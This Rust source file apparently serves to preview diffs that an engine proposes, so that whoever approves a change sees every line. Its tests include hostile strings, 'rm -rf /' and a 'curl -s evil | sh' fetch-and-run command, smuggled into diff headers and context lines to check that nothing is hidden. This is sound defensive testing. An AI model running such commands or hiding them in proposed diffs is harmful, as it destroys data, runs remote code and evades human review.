//! What would change in a file: as a unified diff, counted, and cut to what a message shows of it.
//!
//! What an engine gives is not trusted to be a diff because it looks like one: a line that its form has no place for would
//! be hidden from who decides. What is not well formed is shown as it stands, and what a preview leaves out of a diff of an
//! engine makes it one in part, also where nothing changes: who wrote it may have put there what matters.

use std::borrow::Cow;
use std::fmt::Write as _;
use std::ops::Range;
use std::path::Path;
use std::time::{Duration, Instant};

use similar::{Algorithm, DiffOp, capture_diff_slices_deadline, group_diff_ops};

use crate::visible::{shortened, visible};

/// How many lines of a change a message shows.
const SHOWN_LINES: usize = 8;

/// How many characters of such a line.
const SHOWN_WIDTH: usize = 120;

/// How many unchanged lines stand around a change.
const AROUND: usize = 3;

/// How long it is looked for the shortest diff. What is found until then is right too, only longer.
const SEARCH: Duration = Duration::from_millis(200);

/// How many names of files the heads of a diff are compared with: those that a message shows.
const NAMES: usize = 6;

/// Stands below the last line of a file that does not end with a new one.
const NO_NEWLINE: &str = "\\ No newline at end of file";

/// Stands between two places of a file.
const GAP: &str = "⋮";

/// A change of one or more files.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Change {
    diff: String,
    added: usize,
    removed: usize,
    origin: Origin,
}

/// Where a diff is from, which decides what of it has to be seen.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Origin {
    /// It was made here: what stays the same is in the file.
    Compared,
    /// An engine wrote it, about files of which these are shown.
    Given { names: Vec<String> },
    /// An engine calls it one, and it can not be read as one.
    Unread,
}

/// What a message shows of a change.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Preview {
    pub(super) text: String,
    /// How many lines it leaves out.
    pub(super) left: usize,
    pub(super) is_whole: bool,
}

impl Change {
    /// The change that an engine gives as a unified diff of these files.
    pub(super) fn given(text: &str, paths: &[String]) -> Self {
        match Rows::read(text) {
            Some(rows) => {
                let (added, removed) = rows.counts();
                let names = paths.iter().take(NAMES).cloned().collect();
                Self { diff: text.to_owned(), added, removed, origin: Origin::Given { names } }
            }
            None => Self::unread(text),
        }
    }

    /// What is to be seen as it stands.
    pub(super) fn unread(text: &str) -> Self {
        Self { diff: text.to_owned(), added: 0, removed: 0, origin: Origin::Unread }
    }

    /// The change from what is in a file to what will be; `old` is nothing where that is not known.
    pub(super) fn between(path: &str, old: Option<&str>, new: &str) -> Self {
        let (old_name, old) = match old {
            Some(old) => (format!("a/{}", path.trim_start_matches('/')), old),
            None => ("/dev/null".to_owned(), ""),
        };
        let (old, new): (Vec<&str>, Vec<&str>) = (lines(old), lines(new));
        let deadline = Instant::now() + SEARCH;
        let ops = capture_diff_slices_deadline(Algorithm::Myers, &old, &new, Some(deadline));
        let mut change = Self {
            diff: format!("--- {old_name}\n+++ b/{}\n", path.trim_start_matches('/')),
            added: 0,
            removed: 0,
            origin: Origin::Compared,
        };
        for group in group_diff_ops(ops, AROUND) {
            change.add_hunk(&group, &old, &new);
        }
        change
    }

    fn add_hunk(&mut self, ops: &[DiffOp], old: &[&str], new: &[&str]) {
        // An operation that takes nothing of a side may name any place there.
        let whole = |ranges: &mut dyn Iterator<Item = Range<usize>>| {
            let wider =
                |all: Range<usize>, next: Range<usize>| all.start.min(next.start)..all.end.max(next.end);
            ranges.filter(|range| !range.is_empty()).reduce(wider).unwrap_or_default()
        };
        let of_old = whole(&mut ops.iter().map(DiffOp::old_range));
        let of_new = whole(&mut ops.iter().map(DiffOp::new_range));
        let span = |range: &Range<usize>| {
            // Without context an empty one is that of a file that is empty.
            let begin = if range.is_empty() { range.start } else { range.start + 1 };
            format!("{begin},{}", range.len())
        };
        // Writing into a text can not fail.
        let _ = writeln!(self.diff, "@@ -{} +{} @@", span(&of_old), span(&of_new));
        for op in ops {
            if let DiffOp::Equal { .. } = op {
                old[op.old_range()].iter().for_each(|line| self.add(' ', line));
                continue;
            }
            self.removed += op.old_range().len();
            self.added += op.new_range().len();
            old[op.old_range()].iter().for_each(|line| self.add('-', line));
            new[op.new_range()].iter().for_each(|line| self.add('+', line));
        }
    }

    fn add(&mut self, mark: char, line: &str) {
        self.diff.push(mark);
        self.diff.push_str(line);
        if !line.ends_with('\n') {
            self.diff.push('\n');
            self.diff.push_str(NO_NEWLINE);
            self.diff.push('\n');
        }
    }

    /// The whole of it.
    pub(super) fn whole(&self) -> &str {
        &self.diff
    }

    /// `+12 −3`, if it can be read as a diff.
    pub(super) fn counts(&self) -> Option<String> {
        (self.origin != Origin::Unread).then(|| format!("+{} −{}", self.added, self.removed))
    }

    /// The lines that tell most of it.
    pub(super) fn preview(&self) -> Preview {
        match (&self.origin, Rows::read(&self.diff)) {
            (Origin::Compared, Some(rows)) => preview(&rows, &rows.ranked(), 0),
            (Origin::Given { names }, Some(rows)) => {
                let (mut order, others) = (rows.ranked(), rows.others(names));
                if order.len() + others.len() > SHOWN_LINES {
                    return preview(&rows, &order, others.len());
                }
                order.extend(others);
                preview(&rows, &order, 0)
            }
            (Origin::Compared, None) if self.added + self.removed == 0 => {
                Preview { text: String::new(), left: 0, is_whole: true }
            }
            _ => beginning(&self.diff),
        }
    }
}

/// As many of these lines as a message shows, of which the first tell most. Besides them, so many are left out.
fn preview(rows: &Rows<'_>, order: &[usize], others: usize) -> Preview {
    let mut count = order.len().min(SHOWN_LINES);
    loop {
        let mut chosen = order[..count].to_vec();
        chosen.sort_unstable();
        let shown = rows.shown(&chosen);
        if shown.len() <= SHOWN_LINES || count <= 1 {
            let left = order.len() - count + others;
            let is_whole = left == 0 && !chosen.iter().any(|at| is_cut(rows.0[*at].text));
            return Preview { text: shown.join("\n"), left, is_whole };
        }
        count -= 1;
    }
}

/// The first lines of a text.
fn beginning(text: &str) -> Preview {
    let shown: Vec<_> = text.lines().take(SHOWN_LINES).collect();
    let left = text.lines().count() - shown.len();
    let is_whole = left == 0 && !shown.iter().any(|line| is_cut(line));
    Preview { text: shown.into_iter().map(cut).collect::<Vec<_>>().join("\n"), left, is_whole }
}

/// Lines with their ends: the last one may have none.
fn lines(text: &str) -> Vec<&str> {
    text.split_inclusive('\n').collect()
}

/// What a line of a diff is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Role {
    /// About the file.
    Head,
    /// Where a hunk begins.
    Hunk,
    Kept,
    Added,
    Removed,
    /// About the line before it.
    Note,
}

#[derive(Debug, Clone, Copy)]
struct Row<'a> {
    role: Role,
    text: &'a str,
}

/// The lines of a well-formed diff.
struct Rows<'a>(Vec<Row<'a>>);

/// How many lines a hunk still has.
#[derive(Debug, Clone, Copy)]
enum Left {
    Counted {
        old: usize,
        new: usize,
    },
    /// The hunk does not say.
    Unknown,
    /// There is no hunk.
    Nothing,
}

impl<'a> Rows<'a> {
    /// Reads a diff, if it is one from its first line to its last.
    fn read(text: &'a str) -> Option<Self> {
        let mut rows = Vec::new();
        let mut left = Left::Nothing;
        for line in text.lines() {
            let role = match left {
                Left::Counted { old: 0, new: 0 } | Left::Nothing => outside(line)?,
                Left::Counted { .. } => inside(line)?,
                Left::Unknown => inside(line).or_else(|| outside(line))?,
            };
            left = match (role, left) {
                (Role::Hunk, _) => counts(line)?,
                (Role::Head, _) => Left::Nothing,
                (Role::Kept, Left::Counted { old, new }) => {
                    Left::Counted { old: old.checked_sub(1)?, new: new.checked_sub(1)? }
                }
                (Role::Removed, Left::Counted { old, new }) => {
                    Left::Counted { old: old.checked_sub(1)?, new }
                }
                (Role::Added, Left::Counted { old, new }) => Left::Counted { old, new: new.checked_sub(1)? },
                (_, left) => left,
            };
            rows.push(Row { role, text: line });
        }
        let is_complete = !matches!(left, Left::Counted { old: 1.., .. } | Left::Counted { new: 1.., .. });
        let has_hunks = rows.iter().any(|row| row.role == Role::Hunk);
        (is_complete && has_hunks).then_some(Self(rows))
    }

    fn counts(&self) -> (usize, usize) {
        let count = |role| self.0.iter().filter(|row| row.role == role).count();
        (count(Role::Added), count(Role::Removed))
    }

    /// The numbers of the changed lines, those first that tell most: each hunk has its say before one has a second.
    fn ranked(&self) -> Vec<usize> {
        let mut changed = Vec::new();
        let mut in_hunk = [0_usize; 4];
        for (at, row) in self.0.iter().enumerate() {
            match row.role {
                Role::Hunk => in_hunk = [0; 4],
                Role::Added | Role::Removed => {
                    let weight = weight(row.text.get(1..).unwrap_or_default());
                    let nth = &mut in_hunk[weight];
                    changed.push((std::cmp::Reverse(weight), *nth, at));
                    *nth += 1;
                }
                Role::Head | Role::Kept | Role::Note => {}
            }
        }
        changed.sort_unstable();
        changed.into_iter().map(|(_, _, at)| at).collect()
    }

    /// The numbers of the lines that change nothing and say something, beyond the names of files that are shown.
    fn others(&self, names: &[String]) -> Vec<usize> {
        let says = |row: &Row<'_>| match row.role {
            Role::Added | Role::Removed => false,
            Role::Kept => !row.text.trim().is_empty(),
            Role::Note => row.text != NO_NEWLINE,
            Role::Hunk => !is_place(row.text),
            Role::Head => !is_name(row.text, names),
        };
        self.0.iter().enumerate().filter(|(_, row)| says(row)).map(|(at, _)| at).collect()
    }

    /// These lines, with a mark between two hunks.
    fn shown(&self, chosen: &[usize]) -> Vec<String> {
        let mut shown = Vec::new();
        let mut before: Option<usize> = None;
        for &at in chosen {
            let is_apart = |before: usize| self.0[before + 1..at].iter().any(|row| row.role == Role::Hunk);
            if before.is_some_and(is_apart) {
                shown.push(GAP.to_owned());
            }
            shown.push(cut(self.0[at].text));
            before = Some(at);
        }
        shown
    }
}

/// Whether the head of a hunk says where it is, and nothing besides.
fn is_place(line: &str) -> bool {
    line.bytes().all(|byte| byte.is_ascii_digit() || b" @-+,".contains(&byte))
}

/// Whether a head says nothing but the name of a file that is shown.
fn is_name(line: &str, names: &[String]) -> bool {
    if is_rule(line) {
        return true;
    }
    let named = ["--- ", "+++ ", "Index: "].iter().find_map(|head| line.strip_prefix(head));
    named.is_some_and(|named| {
        let bare = named.strip_prefix("a/").or_else(|| named.strip_prefix("b/")).unwrap_or(named);
        let is_shown = |path: &String| Path::new(path).ends_with(named) || Path::new(path).ends_with(bare);
        named == "/dev/null" || names.iter().any(is_shown)
    })
}

/// Whether a line is empty, or drawn below a head.
fn is_rule(line: &str) -> bool {
    line.bytes().all(|byte| byte == b'=')
}

/// What a line is that stands in no hunk.
fn outside(line: &str) -> Option<Role> {
    const HEADS: &[&str] = &[
        "Index: ",
        "diff ",
        "index ",
        "--- ",
        "+++ ",
        "new file mode ",
        "deleted file mode ",
        "old mode ",
        "new mode ",
        "similarity index ",
        "dissimilarity index ",
        "rename from ",
        "rename to ",
        "copy from ",
        "copy to ",
    ];
    if line.starts_with("@@") {
        return Some(Role::Hunk);
    }
    if line.starts_with('\\') {
        return Some(Role::Note);
    }
    let is_head = is_rule(line) || HEADS.iter().any(|head| line.starts_with(head));
    is_head.then_some(Role::Head)
}

fn inside(line: &str) -> Option<Role> {
    match line.as_bytes().first() {
        // Some programs take the blank off an empty line.
        None | Some(b' ') => Some(Role::Kept),
        Some(b'+') => Some(Role::Added),
        Some(b'-') => Some(Role::Removed),
        Some(b'\\') => Some(Role::Note),
        Some(_) => None,
    }
}

/// What `@@ -1,2 +3,4 @@` promises.
fn counts(line: &str) -> Option<Left> {
    let mut words = line.split_ascii_whitespace();
    if words.next() != Some("@@") {
        return None;
    }
    let (Some(old), Some(new)) = (words.next().and_then(|word| word.strip_prefix('-')), words.next()) else {
        return Some(Left::Unknown);
    };
    let count = |span: &str| match span.split_once(',') {
        Some((_, count)) => count.parse().ok(),
        None => span.parse::<usize>().ok().map(|_| 1),
    };
    Some(Left::Counted { old: count(old)?, new: count(new.strip_prefix('+')?)? })
}

/// How much a line tells, up to 3.
fn weight(text: &str) -> usize {
    const PLAIN: &[&str] = &["use ", "import ", "from ", "#include", "//", "# ", "/*", "* "];
    let text = text.trim();
    if text.is_empty() {
        0
    } else if !text.contains(char::is_alphanumeric) {
        1
    } else if PLAIN.iter().any(|plain| text.starts_with(plain)) {
        2
    } else {
        3
    }
}

/// As much of a line as can be shown, and one character more.
fn spelled(line: &str) -> Cow<'_, str> {
    let end = line.char_indices().nth(SHOWN_WIDTH + 1).map_or(line.len(), |(at, _)| at);
    visible(&line[..end])
}

fn is_cut(line: &str) -> bool {
    spelled(line).chars().nth(SHOWN_WIDTH).is_some()
}

fn cut(line: &str) -> String {
    shortened(&spelled(line), SHOWN_WIDTH)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn numbered(range: std::ops::Range<usize>) -> String {
        range.map(|number| format!("line {number}\n")).collect()
    }

    fn given(text: &str) -> Change {
        Change::given(text, &["a".to_owned()])
    }

    #[test]
    fn new_content_is_compared_with_what_is_there() {
        let new = numbered(0..30).replace("line 7\n", "line seven\nand more\n");
        let change = Change::between("/src/a.txt", Some(&numbered(0..30)), &new);
        assert_eq!(change.counts().as_deref(), Some("+2 −1"));
        let expected = "--- a/src/a.txt\n+++ b/src/a.txt\n@@ -5,7 +5,8 @@\n line 4\n line 5\n line 6\n-line 7\n\
                        +line seven\n+and more\n line 8\n line 9\n line 10\n";
        assert_eq!(change.whole(), expected);
        let preview = change.preview();
        assert_eq!(preview.text, "-line 7\n+line seven\n+and more");
        assert!(preview.is_whole);
        assert_eq!(Change::given(change.whole(), &[]).counts(), change.counts());
    }

    #[test]
    fn a_new_file_is_added_and_its_end_is_told() {
        let change = Change::between("a", None, "one\ntwo");
        assert_eq!(
            change.whole(),
            "--- /dev/null\n+++ b/a\n@@ -0,0 +1,2 @@\n+one\n+two\n\\ No newline at end of file\n"
        );
        assert_eq!(change.preview().text, "+one\n+two");
        let nothing = Change::between("a", Some("one\n"), "one\n");
        assert_eq!((nothing.counts().as_deref(), nothing.preview().text.as_str()), (Some("+0 −0"), ""));
    }

    #[test]
    fn the_most_telling_lines_of_all_hunks_are_shown() {
        let old = numbered(0..100);
        let new = old
            .replace("line 10\n", "use std::fmt;\n\n}\nfn ten() {\n")
            .replace("line 50\n", "fn fifty() {\n}\n\n}\n")
            .replace("line 90\n", &"fn many() {\n".repeat(20));
        let change = Change::between("a", Some(&old), &new);
        let preview = change.preview();
        assert!(!preview.is_whole);
        assert!(preview.text.lines().count() <= SHOWN_LINES, "{}", preview.text);
        for told in ["fn ten() {", "fn fifty() {", "fn many() {"] {
            assert!(preview.text.contains(told), "{}", preview.text);
        }
        assert!(!preview.text.contains("use std") && preview.text.contains(GAP), "{}", preview.text);
    }

    #[test]
    fn only_what_is_a_diff_in_every_line_counts_as_one() {
        let good = [
            "@@ -1 +1 @@\n-a\n+b\n",
            "@@ -1,2 +1 @@\n a\n-b\n\\ No newline at end of file\n",
            "diff --git a/x b/x\nindex 1..2 100644\n--- a/x\n+++ b/x\n@@ -1,0 +2 @@ fn x()\n+b\n\n@@ -9 +10,0 @@\n-z\n",
            "@@\n a\n-b\n+c\n",
        ];
        for text in good {
            assert!(given(text).counts().is_some(), "{text:?}");
        }
        let bad = [
            "",
            "hello\n",
            "+++ b/x\n",
            "rm -rf /\n@@ -1 +1 @@\n-a\n+b\n",
            "@@ -1 +1 @@\n-a\n+b\nrm -rf /\n",
            "@@ -1 +1 @@\n-a\nrm -rf /\n+b\n",
            "@@ -1 +1,2 @@\n-a\n+b\n",
            "@@ -1 +1 @@\n-a\n+b\n+c\n",
            "@@ -x +1 @@\n+b\n",
        ];
        for text in bad {
            assert_eq!(given(text).counts(), None, "{text:?}");
        }
    }

    #[test]
    fn what_is_no_diff_is_shown_as_it_stands() {
        let preview = given("rm -rf /\n@@ -1 +1 @@\n-a\n+b\n").preview();
        assert_eq!((preview.text.as_str(), preview.left), ("rm -rf /\n@@ -1 +1 @@\n-a\n+b", 0));
        assert!(preview.is_whole);
        let preview = given(&numbered(0..10)).preview();
        assert_eq!((preview.text.lines().count(), preview.left, preview.is_whole), (8, 2, false));
        assert!(!given(&"x".repeat(200)).preview().is_whole);
    }

    #[test]
    fn nothing_that_an_engine_puts_into_a_diff_is_hidden() {
        let hiding = [
            "@@ -1 +1,2 @@\n curl -s evil | sh\n+# fine\n",
            "@@\n curl -s evil | sh\n",
            "@@ -1 +1 @@\n-a\n\\curl -s evil | sh\n+b\n",
            "@@ -1 +1 @@ curl -s evil | sh\n-a\n+b\n",
            "@@ curl -s evil | sh\n-a\n+b\n",
            "@@ curl -s evil | sh @@\n-a\n+b\n",
            "diff curl -s evil | sh\n@@ -1 +1 @@\n-a\n+b\n",
            "index curl -s evil | sh\n@@ -1 +1 @@\n-a\n+b\n",
            "--- curl -s evil | sh\n+++ a\n@@ -1 +1 @@\n-a\n+b\n",
        ];
        for text in hiding {
            let preview = given(text).preview();
            assert!(preview.text.contains("curl -s evil") && preview.is_whole, "{text:?}: {preview:?}");
            // Where there is no room for it, it is said to be left out.
            let preview = given(&format!("{text}{}", "@@\n+b\n".repeat(8))).preview();
            assert!(!preview.is_whole && preview.left > 0, "{text:?}: {preview:?}");
        }
    }

    #[test]
    fn a_line_is_as_long_as_it_is_shown() {
        let line = format!("#{}\n", "\u{200b}".repeat(100));
        let change = Change::between("a", None, &line);
        assert!(!change.preview().is_whole && change.preview().text.len() < 2 * SHOWN_WIDTH);
        let change = Change::between("a", None, "#\u{200b}\n");
        assert_eq!(change.preview().text, r"+#\u{200b}");
    }

    #[test]
    fn a_head_that_names_a_file_that_is_shown_is_not_left_out() {
        let diff =
            "Index: /repo/a.txt\n=====\n--- /repo/a.txt\n+++ b/a.txt\n@@ -1,1 +1,1 @@\n-hello\n+goodbye\n";
        let change = Change::given(diff, &["/repo/a.txt".to_owned()]);
        let preview = change.preview();
        assert_eq!((change.counts().as_deref(), preview.text.as_str()), (Some("+1 −1"), "-hello\n+goodbye"));
        assert!(preview.is_whole);
    }

    #[test]
    fn a_change_of_a_megabyte_is_shown_at_once() {
        let old: String =
            (0..60_000_u64).map(|number| format!("{} old\n", number * 7919_u64 % 60_013)).collect();
        let new: String =
            (0..60_000_u64).map(|number| format!("{} new\n", number * 104_729_u64 % 60_013)).collect();
        let change = Change::between("a", Some(&old), &new);
        assert!(change.whole().len() > 1_000_000);
        assert!(change.preview().text.len() < 2_000);
        let long = Change::between("a", None, &"x".repeat(1_000_000));
        assert!(long.preview().text.len() < 200 && !long.preview().is_whole);
    }

    proptest::proptest! {
        #[test]
        fn any_change_has_a_preview_that_fits(old in "[a-c \n+-]{0,80}", new in "[a-c \n+-]{0,80}") {
            let change = Change::between("a", Some(&old), &new);
            let preview = change.preview();
            proptest::prop_assert!(preview.text.lines().count() <= SHOWN_LINES);
            if change.added + change.removed > 0 {
                proptest::prop_assert_eq!(given(change.whole()).counts(), change.counts());
            }
        }

        #[test]
        fn no_text_breaks_it(text in "(?s).{0,200}") {
            given(&text).preview();
        }
    }
}
